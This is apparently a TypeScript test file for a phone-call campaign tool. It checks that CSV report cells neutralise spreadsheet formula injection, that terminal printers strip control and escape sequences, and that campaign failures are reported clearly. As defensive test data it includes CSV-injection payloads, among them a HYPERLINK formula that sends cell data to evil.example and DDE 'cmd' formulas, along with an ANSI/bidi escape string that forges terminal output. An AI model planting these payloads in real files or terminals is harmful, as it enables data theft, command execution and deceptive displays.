import { ActivityFailure, ApplicationFailure, RetryState, TerminatedFailure } from '@temporalio/common';
import { WorkflowFailedError } from '@temporalio/client';
import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { textPrinters } from '../src/cli/print';
import { type CampaignHandle, CampaignFailedError, campaignFailure, campaignProgress } from '../src/cli/progress';
import { csvField, reportColumns, reportCsv, type ReportRow } from '../src/cli/report';
import type { CampaignProgress } from '../src/shared/campaign-types';

const plain: ReportRow = {
  line: 2,
  key: 't-crm-1',
  id: 'crm-1',
  toPhoneNumber: '14155550200',
  businessName: 'Acme',
  state: 'achieved',
  outcome: 'achieved',
  failure: 'CallFailed',
  callId: 'cl_1',
  summary: 'Open until 9',
  childWorkflowId: 'campaign-a/t-crm-1',
};

/** The columns of one text field each; `attempts` (a ladder's calls, in one field) has its own test below. */
type TextColumn = Exclude<(typeof reportColumns)[number], 'attempts'>;
const textColumns = reportColumns.filter((c): c is TextColumn => c !== 'attempts');

/** Which ReportRow field each report column shows. */
const fieldOfColumn: Record<TextColumn, keyof ReportRow> = {
  line: 'line',
  key: 'key',
  id: 'id',
  to_phone_number: 'toPhoneNumber',
  business_name: 'businessName',
  state: 'state',
  outcome: 'outcome',
  failure: 'failure',
  call_id: 'callId',
  summary: 'summary',
  child_workflow_id: 'childWorkflowId',
};

/** OWASP's CSV-injection triggers, each starting a formula a spreadsheet would run. */
const formulas = [
  { trigger: '=', value: '=HYPERLINK("http://evil.example/?"&A1,"click")' },
  { trigger: '+', value: '+1+2' },
  { trigger: '-', value: '-2-3' },
  { trigger: '@', value: '@SUM(1+1)*cmd|"/C calc"!A0' },
  { trigger: 'tab', value: '\t=1+2' },
  { trigger: 'carriage return', value: '\r=1+2' },
];

const rowsOf = (csv: string): Record<string, string>[] => parse(csv, { columns: true, relax_quotes: false });

describe('report CSV cells are safe to open in a spreadsheet', () => {
  for (const column of textColumns) {
    it(`escapes every formula trigger in ${column}, leaving the other columns as they were`, () => {
      for (const { value } of formulas) {
        const row = { ...plain, [fieldOfColumn[column]]: value } as ReportRow;
        const csv = reportCsv([row]);
        const [read] = rowsOf(csv);
        expect(read![column]).toBe(`'${value}`);
        expect(csv.split('\r\n')[1]).toContain(`"'${value.replace(/"/g, '""')}"`);
        for (const other of textColumns.filter((c) => c !== column)) {
          expect(read![other]).toBe(String(plain[fieldOfColumn[other]]));
        }
        expect(read!.attempts).toBe('');
      }
    });
  }

  it("writes a retry ladder's calls in one field, in order, never as a formula whatever the call ids hold", () => {
    const attempts: ReportRow['attempts'] = [
      { attempt: 1, at: '2026-12-01T12:00:00.000Z', state: 'not_achieved', callId: '=cmd|"/C calc"!A0' },
      { attempt: 2, at: '2026-12-01T16:00:00.000Z', state: 'failed', callId: 'cl_2' },
      { attempt: 3, at: '2026-12-02T16:00:00.000Z', state: 'achieved' },
    ];
    const [read] = rowsOf(reportCsv([{ ...plain, attempts }]));
    expect(read!.attempts).toBe(
      '1 2026-12-01T12:00:00.000Z not_achieved =cmd|"/C calc"!A0; 2 2026-12-01T16:00:00.000Z failed cl_2; ' +
        '3 2026-12-02T16:00:00.000Z achieved',
    );
    expect(read!.attempts).toMatch(/^\d/);
  });

  it('writes ordinary values as they are, and quotes only what RFC 4180 needs', () => {
    expect(reportCsv([plain])).toBe(
      `${reportColumns.join(',')}\r\n2,t-crm-1,crm-1,14155550200,Acme,achieved,achieved,CallFailed,cl_1,Open until 9,campaign-a/t-crm-1,\r\n`,
    );
    expect(csvField('Bistro "Chez Nous", Paris')).toBe('"Bistro ""Chez Nous"", Paris"');
    expect(csvField(' edge')).toBe('" edge"');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField(undefined)).toBe('');
    expect(csvField(7)).toBe('7');
  });

  it('writes an E.164 number as text, so a spreadsheet keeps its plus sign', () => {
    expect(csvField('+14155550200')).toBe(`"'+14155550200"`);
  });
});

describe('terminal output strips control characters and escape sequences from data', () => {
  // Recolours, sets the window title, clears the screen (C1 CSI), reverses text and starts a fake line.
  const hostile = 'Acme\u001b[31m red\u001b[0m\u001b]0;owned\u0007\u009b2J\u202eevil\nFAKE: approved by ops';
  // stripControls drops the C1 CSI character and leaves its parameters ("2J") as plain text.
  const shown = 'Acme red2Jevil FAKE: approved by ops';
  // eslint-disable-next-line no-control-regex -- finding control characters is the point
  const controls = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]/;

  const progress: CampaignProgress = {
    campaignId: `campaign-${hostile}`,
    name: hostile,
    state: 'paused',
    pauseReason: hostile as never,
    gate: 'pilot',
    counts: {
      pending: 1,
      in_flight: 0,
      achieved: 1,
      partial: 0,
      not_achieved: 0,
      failed: 1,
      canceled: 0,
      timed_out: 0,
      skipped: 1,
      unknown: 0,
    },
    skippedByReason: { [hostile]: 1 },
    failedByType: { [hostile]: 1 },
    validation: {
      rows: 3,
      valid: 2,
      refused: 1,
      refusedByReason: { InvalidInput: 1 },
      refusals: [{ line: 3, reason: 'InvalidInput', message: hostile }],
    },
    creditsNeeded: 2,
    pilot: { calls: 1, counts: { achieved: 1 } },
    decisions: [{ action: 'approve', by: hostile, at: hostile, comment: hostile }],
    approvalDeadline: hostile,
    eta: hostile,
    callsPerMinute: 10,
    maxConcurrentCalls: 5,
    runs: 1,
    childIds: 2,
  };

  function printed(print: () => void): string {
    const lines: string[] = [];
    const log = vi.spyOn(console, 'log').mockImplementation((...a: unknown[]) => void lines.push(a.join(' ')));
    const error = vi.spyOn(console, 'error').mockImplementation((...a: unknown[]) => void lines.push(a.join(' ')));
    try {
      print();
    } finally {
      log.mockRestore();
      error.mockRestore();
    }
    return lines.join('\n');
  }

  afterEach(() => vi.restoreAllMocks());

  const refusal = { line: 3, reason: 'InvalidInput' as const, message: hostile };
  const cases: { name: string; print: () => void; shows: string[] }[] = [
    {
      name: 'the report table (business names, summaries, call ids, failures)',
      print: () =>
        textPrinters.rows([
          {
            ...plain,
            key: hostile,
            businessName: hostile,
            callId: hostile,
            summary: hostile,
            outcome: undefined,
            failure: hostile,
          },
        ]),
      shows: [`2     ${shown}  14155550200  ${shown}  achieved  ${shown}  ${shown}  ${shown}`],
    },
    {
      name: 'status',
      print: () => textPrinters.status(progress),
      shows: [`Campaign ${shown} (campaign-${shown})`, `skipped   ${shown} 1`],
    },
    {
      name: 'preview',
      print: () => textPrinters.preview({ ...progress, state: 'awaiting_approval' }, [refusal], true),
      shows: [`  line 3: InvalidInput: ${shown}`, `report campaign-${shown}`],
    },
    {
      name: 'decisions',
      print: () => textPrinters.decisions(progress.decisions),
      shows: [`  ${shown}  approve    ${shown}: ${shown}`],
    },
    {
      name: 'the start summary',
      print: () =>
        textPrinters.started({
          workflowId: hostile,
          name: hostile,
          path: `/tmp/${hostile}.csv`,
          input: { name: hostile, targetsCsvPath: '/tmp/x.csv', approval: { approvers: [hostile] } },
          inspection: {
            sourceHash: 'x',
            rows: 2,
            valid: 1,
            refused: 1,
            refusedByReason: { InvalidInput: 1 },
            refusals: [refusal],
          },
          withoutZone: 0,
        }),
      shows: [`Started campaign ${shown}`, `by ${shown}`, `Checked /tmp/${shown}.csv`],
    },
    {
      name: 'a refused start',
      print: () => textPrinters.badInput({ message: hostile, refusals: [refusal], started: false }),
      shows: [`  line 3: InvalidInput: ${shown}`, `${shown}\nNothing was started.`],
    },
  ];

  for (const c of cases) {
    it(`in ${c.name}`, () => {
      const text = printed(c.print);
      expect(text).not.toMatch(controls);
      expect(text).not.toContain('owned');
      for (const s of c.shows) expect(text).toContain(s);
      expect(text.split('\n').filter((line) => line.startsWith('FAKE'))).toEqual([]);
    });
  }
});

describe('a failed campaign says why, not only "Workflow execution failed"', () => {
  const handle = (failure: Error, status = 'FAILED'): CampaignHandle =>
    ({
      workflowId: 'campaign-x',
      describe: async () => ({ status: { name: status } }),
      result: async () => {
        throw failure;
      },
    }) as unknown as CampaignHandle;
  const failed = (cause: Error) =>
    new WorkflowFailedError('Workflow execution failed', cause, RetryState.NON_RETRYABLE_FAILURE);
  const changed = '/data/t.csv changed after it was validated and approved. Start a new campaign with the new file.';

  const cases: { name: string; failure: Error; message: string }[] = [
    {
      name: 'an activity’s ApplicationFailure, wrapped in its ActivityFailure (a changed file)',
      failure: failed(
        new ActivityFailure(
          'Activity task failed',
          'loadCampaignTargets',
          '7',
          RetryState.NON_RETRYABLE_FAILURE,
          'worker',
          ApplicationFailure.create({ type: 'InvalidInput', message: changed, nonRetryable: true }),
        ),
      ),
      message: changed,
    },
    {
      name: 'the workflow’s own ApplicationFailure',
      failure: failed(ApplicationFailure.create({ type: 'InvalidInput', message: 'The targets cannot be used: x' })),
      message: 'The targets cannot be used: x',
    },
    { name: 'a termination', failure: failed(new TerminatedFailure('by ops')), message: 'by ops' },
    { name: 'an error without a cause', failure: new Error('connection lost'), message: 'connection lost' },
  ];

  for (const c of cases) {
    it(`reads ${c.name}`, async () => {
      const error = await campaignFailure(handle(c.failure), 'FAILED');
      expect(error).toBeInstanceOf(CampaignFailedError);
      expect(error).toMatchObject({ workflowId: 'campaign-x', status: 'FAILED', message: c.message });
    });
  }

  it('is what status and report throw for a failed campaign', async () => {
    const failure = cases[0]!.failure;
    await expect(campaignProgress(handle(failure))).rejects.toMatchObject({
      name: 'CampaignFailedError',
      status: 'FAILED',
      message: changed,
    });
  });
});
